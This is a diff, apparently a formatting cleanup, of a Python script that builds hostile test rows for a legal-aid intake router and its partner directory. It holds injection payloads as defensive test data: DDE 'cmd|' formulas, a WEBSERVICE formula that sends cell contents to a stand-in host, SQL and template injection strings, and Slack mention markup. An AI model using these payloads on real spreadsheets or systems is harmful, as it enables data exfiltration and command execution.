@@ -39,9 +39,9 @@ FORMULAS = [
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=WEBSERVICE(\"http://x.example/?\"&A1)",
+    '=WEBSERVICE("http://x.example/?"&A1)',
     "\t=1+1",
-    "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\",\"A1:Z\")",
+    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","A1:Z")',
     "'=1+1",
 ]
 MENTIONS = [
@@ -150,11 +150,19 @@ class Corpus:
             "Notes": "",
         }
 
-    def add(self, kind: str, changes: dict[str, str], outcome: str, code: str, why: str) -> dict[str, str]:
+    def add(
+        self, kind: str, changes: dict[str, str], outcome: str, code: str, why: str
+    ) -> dict[str, str]:
         row = {**self.base(), **changes}
         case_id = f"HI-{len(self.rows) + 1:03d}"
         self.rows.append(
-            {"id": case_id, "kind": kind, "why": why, "row": row, "expect": {"outcome": outcome, "code": code}}
+            {
+                "id": case_id,
+                "kind": kind,
+                "why": why,
+                "row": row,
+                "expect": {"outcome": outcome, "code": code},
+            }
         )
         return row
 
@@ -175,7 +183,9 @@ def intake_rows() -> list[dict[str, Any]]:
     # Mention injection: never a ping, the row routes.
     for mention in MENTIONS:
         for column in ("Full name", "Notes"):
-            routed(c, "mention injection", {column: mention}, f"mention markup in {column} is escaped")
+            routed(
+                c, "mention injection", {column: mention}, f"mention markup in {column} is escaped"
+            )
     # Every script and direction of text.
     for script, name, note in SCRIPTS:
         routed(c, f"script: {script}", {"Full name": name, "Notes": note, "City": name[:12]},
@@ -184,14 +194,36 @@ def intake_rows() -> list[dict[str, Any]]:
         routed(c, "script: language answer", {"Preferred language": language},
                "a language written in its own script; the partner has an interpreter")  # fmt: skip
     # Huge fields: cut to what a sheet cell and a partner can take, never dropped.
-    routed(c, "huge field", {"Notes": "Long story. " * 4166}, "a 50,000-character note is cut, not lost")
+    routed(
+        c,
+        "huge field",
+        {"Notes": "Long story. " * 4166},
+        "a 50,000-character note is cut, not lost",
+    )
     routed(c, "huge field", {"Full name": "Nombre " * 700}, "a 4,900-character name")
-    routed(c, "huge field", {"Help needed": "asylum " + "please help " * 800}, "a 9,600-character help text")
+    routed(
+        c,
+        "huge field",
+        {"Help needed": "asylum " + "please help " * 800},
+        "a 9,600-character help text",
+    )
     routed(c, "huge field", {"City": "Houston" * 300}, "a 2,100-character city")
-    routed(c, "huge field", {"County": "Harris " * 200}, "a county of 200 words is unreadable, the state still fits")
-    routed(c, "huge field", {"Email": "x" * 400 + "@example.org"}, "an impossible email; the phone is enough")
+    routed(
+        c,
+        "huge field",
+        {"County": "Harris " * 200},
+        "a county of 200 words is unreadable, the state still fits",
+    )
+    routed(
+        c,
+        "huge field",
+        {"Email": "x" * 400 + "@example.org"},
+        "an impossible email; the phone is enough",
+    )
     routed(c, "huge field", {"Phone": "7" * 500}, "an impossible phone; the email is enough")
-    routed(c, "huge field", {"Monthly income": "9" * 400}, "an absurd income is a warning, not a block")
+    routed(
+        c, "huge field", {"Monthly income": "9" * 400}, "an absurd income is a warning, not a block"
+    )
     routed(c, "huge field", {"Notes": "\n" * 3000 + "end"}, "3,000 line breaks")
     routed(c, "huge field", {"Notes": "😀" * 20000}, "20,000 emoji (40,000 UTF-16 units)")
     # Broken dates.
@@ -206,41 +238,70 @@ def intake_rows() -> list[dict[str, Any]]:
               "an entry in the future is a typo")  # fmt: skip
     for value in ("not a time", "32/13/2026 25:61:00", "", "0000-00-00 00:00:00", "=NOW()"):
         routed(c, "broken date", {"Timestamp": value}, "a broken timestamp does not block routing")
-    routed(c, "broken date", {"Next court date": "2030-05-01"}, "a court date years ahead is not urgent")
+    routed(
+        c,
+        "broken date",
+        {"Next court date": "2030-05-01"},
+        "a court date years ahead is not urgent",
+    )
     routed(c, "broken date", {"Next court date": "١٢/٠٥/٢٠٣٠"}, "Arabic-Indic digits in a date")
     # Duplicates: the same person again within the 7-day window is flagged and routed once.
     for i in range(6):
-        first = c.add("duplicate", {"Timestamp": stamp(10 + i)}, "route", "best_fit", "the first of a pair")
+        first = c.add(
+            "duplicate", {"Timestamp": stamp(10 + i)}, "route", "best_fit", "the first of a pair"
+        )
         again = {**first, "Timestamp": stamp(11 + i)}
         c.add("duplicate", again, "duplicate", "duplicate", "an exact copy a day later")
     for i in range(4):
-        first = c.add("duplicate", {"Timestamp": stamp(3 + i)}, "route", "best_fit", "the first of a pair")
+        first = c.add(
+            "duplicate", {"Timestamp": stamp(3 + i)}, "route", "best_fit", "the first of a pair"
+        )
         digits = "".join(ch for ch in first["Phone"] if ch.isdigit())
         other = {"Timestamp": stamp(4 + i), "Phone": f"+1 {digits[:3]}.{digits[3:6]}.{digits[6:]}",
                  "Email": "", "Full name": first["Full name"].upper()}  # fmt: skip
         c.add("duplicate", other, "duplicate", "duplicate", "the same phone written another way")
     for i in range(3):
-        first = c.add("duplicate", {"Timestamp": stamp(12 + i)}, "route", "best_fit", "the first of a pair")
+        first = c.add(
+            "duplicate", {"Timestamp": stamp(12 + i)}, "route", "best_fit", "the first of a pair"
+        )
         local, _, domain = first["Email"].partition("@")
         other = {"Timestamp": stamp(13 + i), "Phone": "", "Email": f"{local}@{domain.upper()}"}
         c.add("duplicate", other, "duplicate", "duplicate", "the same email, domain in capitals")
-    first = c.add("duplicate", {"Timestamp": "1/2/2026 09:00:00"}, "route", "best_fit", "an old request")
+    first = c.add(
+        "duplicate", {"Timestamp": "1/2/2026 09:00:00"}, "route", "best_fit", "an old request"
+    )
     c.add("duplicate", {**first, "Timestamp": "2/25/2026 09:00:00"}, "route", "best_fit",
           "the same person 54 days later is a new request")  # fmt: skip
     # Missing and invalid fields: kept, and sent to staff with what to fix.
     for _ in range(4):
-        c.add("missing field", {"Phone": "", "Email": ""}, "review", "contact_missing", "no way to reach them")
-    for phone, email in (("555-0199", "a@@b.org"), ("call me", "no email"), ("000", "@"), ("+", "x@y")):
+        c.add(
+            "missing field",
+            {"Phone": "", "Email": ""},
+            "review",
+            "contact_missing",
+            "no way to reach them",
+        )
+    for phone, email in (
+        ("555-0199", "a@@b.org"),
+        ("call me", "no email"),
+        ("000", "@"),
+        ("+", "x@y"),
+    ):
         c.add("missing field", {"Phone": phone, "Email": email}, "review", "contact_missing",
               "neither contact can be used")  # fmt: skip
     for help_text in ("", "   ", "\t\n"):
-        c.add("missing field", {"Help needed": help_text}, "review", "help_missing", "no help asked")
+        c.add(
+            "missing field", {"Help needed": help_text}, "review", "help_missing", "no help asked"
+        )
     for state in ("", "Texass", "ZZ", "Narnia", "99", "T X"):
         c.add("missing field", {"State": state}, "review", "state_invalid", "no US state")
     for household in ("many", "0", "31", "a lot of people"):
         c.add("missing field", {"Household size": household}, "review", "household_invalid",
               "a household size nobody can read")  # fmt: skip
-    for blank in ({key: "" for key in FORM_COLUMNS}, {**{key: "" for key in FORM_COLUMNS}, "Timestamp": stamp(21)}):
+    for blank in (
+        {key: "" for key in FORM_COLUMNS},
+        {**{key: "" for key in FORM_COLUMNS}, "Timestamp": stamp(21)},
+    ):
         c.add("missing field", blank, "blank", "", "an empty row is not an intake")
     c.add("missing field", {key: "\u200b" for key in FORM_COLUMNS}, "review", "contact_missing",
           "a row of zero-width spaces looks empty but is not: staff must see it")  # fmt: skip
@@ -258,11 +319,17 @@ def intake_rows() -> list[dict[str, Any]]:
               "the answers name no case type")  # fmt: skip
     # Control characters, escapes and injection attempts against every layer.
     for text in CONTROL_TEXT:
-        routed(c, "control and injection text", {"Notes": text, "City": text[:40]}, "stays inert text")
+        routed(
+            c, "control and injection text", {"Notes": text, "City": text[:40]}, "stays inert text"
+        )
     # Odd but usable contact details.
-    routed(c, "odd contact", {"Phone": "٣٤٦٥٥٥٠١٩٨", "Email": ""}, "Arabic-Indic digits are a phone")
+    routed(
+        c, "odd contact", {"Phone": "٣٤٦٥٥٥٠١٩٨", "Email": ""}, "Arabic-Indic digits are a phone"
+    )
     routed(c, "odd contact", {"Phone": "1-800-FLOWERS"}, "a vanity number")
-    routed(c, "odd contact", {"Phone": "555-0199"}, "a phone without area code; the email is enough")
+    routed(
+        c, "odd contact", {"Phone": "555-0199"}, "a phone without area code; the email is enough"
+    )
     routed(c, "odd contact", {"Email": "a@@b.org"}, "a broken email; the phone is enough")
     routed(c, "odd contact", {"Phone": " (346)555-0177 ext. 2 ", "Email": ""}, "an extension")
     routed(c, "odd contact", {"Email": " MixedCase.Person@Example.ORG "}, "spaces and capitals")
@@ -273,9 +340,20 @@ def intake_rows() -> list[dict[str, Any]]:
     routed(c, "odd contact", {"Monthly income": "$1,200.50 al mes"}, "an income with words")
     # No partner serves the place: waitlisted with a reason, never dropped.
     for state in ("WY", "AK", "HI", "Vermont", "PR"):
-        c.add("no partner", {"State": state}, "waitlist", "outside_area", "no partner serves that state")
+        c.add(
+            "no partner",
+            {"State": state},
+            "waitlist",
+            "outside_area",
+            "no partner serves that state",
+        )
     routed(c, "no partner", {"State": "IL", "County": "Cook"}, "the Illinois partner takes it")
-    routed(c, "urgent", {"Detained": "Yes", "Help needed": "my husband is detained"}, "detained: attorney partner")
+    routed(
+        c,
+        "urgent",
+        {"Detained": "Yes", "Help needed": "my husband is detained"},
+        "detained: attorney partner",
+    )
     return c.rows
 
 
@@ -302,30 +380,68 @@ def airtable_records() -> list[dict[str, Any]]:
 
     # Every member without a primary contact gets that finding; members 1-5 have one.
     no_primary = ["missing_primary_contact"]
-    anchors = [member(i, "clean", {}, [] if i <= 5 else no_primary, "a clean member") for i in range(1, 8)]
+    anchors = [
+        member(i, "clean", {}, [] if i <= 5 else no_primary, "a clean member") for i in range(1, 8)
+    ]
     hostile_names = [
         '=HYPERLINK("http://evil.example","Click")', "<!channel> Legal Aid", "Org\u202eevil\u202c",
         "ОРГАНИЗАЦИЯ 移民 منظمة", "Z̴a̷l̶g̵o̸ Legal", "x" * 10_000, "🌵" * 200, "Org\x00\x07\x1b",
         "{{ config }} Legal", "Robert'); DROP TABLE members;--",
     ]  # fmt: skip
     for i, name in enumerate(hostile_names, start=20):
-        member(i, "hostile name", {"Name": name}, no_primary, "an organization name that attacks a layer")
+        member(
+            i,
+            "hostile name",
+            {"Name": name},
+            no_primary,
+            "an organization name that attacks a layer",
+        )
     member(40, "missing field", {"Name": ""}, ["missing_name", *no_primary], "no name")
-    member(41, "missing field", {"Name": "   \u200b "}, ["missing_name", *no_primary], "a blank-looking name")
+    member(
+        41,
+        "missing field",
+        {"Name": "   \u200b "},
+        ["missing_name", *no_primary],
+        "a blank-looking name",
+    )
     for i, state in enumerate(("Texass", "ZZ", "99", ["TX", "CA"]), start=42):
         member(i, "bad value", {"State": state}, ["unknown_state", *no_primary], "no US state")
     for i, capacity in enumerate(("lots", "-5", "1e999", {"n": 3}), start=46):
-        member(i, "bad value", {"Weekly capacity": capacity}, ["invalid_value", *no_primary], "not a capacity")
+        member(
+            i,
+            "bad value",
+            {"Weekly capacity": capacity},
+            ["invalid_value", *no_primary],
+            "not a capacity",
+        )
     for i, day in enumerate(("2026-02-30", "someday", "13/45/2026"), start=50):
-        member(i, "broken date", {"Dues paid through": day}, ["invalid_value", *no_primary], "not a date")
+        member(
+            i,
+            "broken date",
+            {"Dues paid through": day},
+            ["invalid_value", *no_primary],
+            "not a date",
+        )
     member(53, "broken date", {"Last verified": "yesterday-ish"}, ["invalid_value", "not_verified", *no_primary],
            "an unreadable verification date means never verified")  # fmt: skip
     member(54, "bad value", {"Services": ["asylum", "<!here>", "=1+1"]}, ["unknown_service", *no_primary],
            "services outside the canonical list")  # fmt: skip
     member(55, "bad value", {"Languages": ["Spanish", "Klingon"]}, ["unknown_language", *no_primary],
            "a language outside the canonical list")  # fmt: skip
-    member(56, "bad value", {"Accreditation": "supreme"}, ["invalid_value", *no_primary], "unknown accreditation")
-    member(57, "duplicate", {"Name": "Casa Quillon Legal Services"}, ["duplicate_member", *no_primary], "a pair")
+    member(
+        56,
+        "bad value",
+        {"Accreditation": "supreme"},
+        ["invalid_value", *no_primary],
+        "unknown accreditation",
+    )
+    member(
+        57,
+        "duplicate",
+        {"Name": "Casa Quillon Legal Services"},
+        ["duplicate_member", *no_primary],
+        "a pair",
+    )
     member(58, "duplicate", {"Name": "casa quillon legal services."}, ["duplicate_member", *no_primary],
            "the same organization in lower case")  # fmt: skip
     member(59, "wrong type", {"Name": 12345, "Accepting referrals": "yes please"}, no_primary,
@@ -370,7 +486,9 @@ def write() -> None:
     for name, rows in (("hostile_intake.jsonl", intake), ("hostile_airtable.jsonl", airtable)):
         lines = (json.dumps(row, ensure_ascii=False) for row in rows)
         (HERE / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
-    (HERE / "hostile_partners.json").write_text(json.dumps(PARTNERS, indent=1) + "\n", encoding="utf-8")
+    (HERE / "hostile_partners.json").write_text(
+        json.dumps(PARTNERS, indent=1) + "\n", encoding="utf-8"
+    )
     print(f"{len(intake)} intake rows, {len(airtable)} Airtable records")
 
 
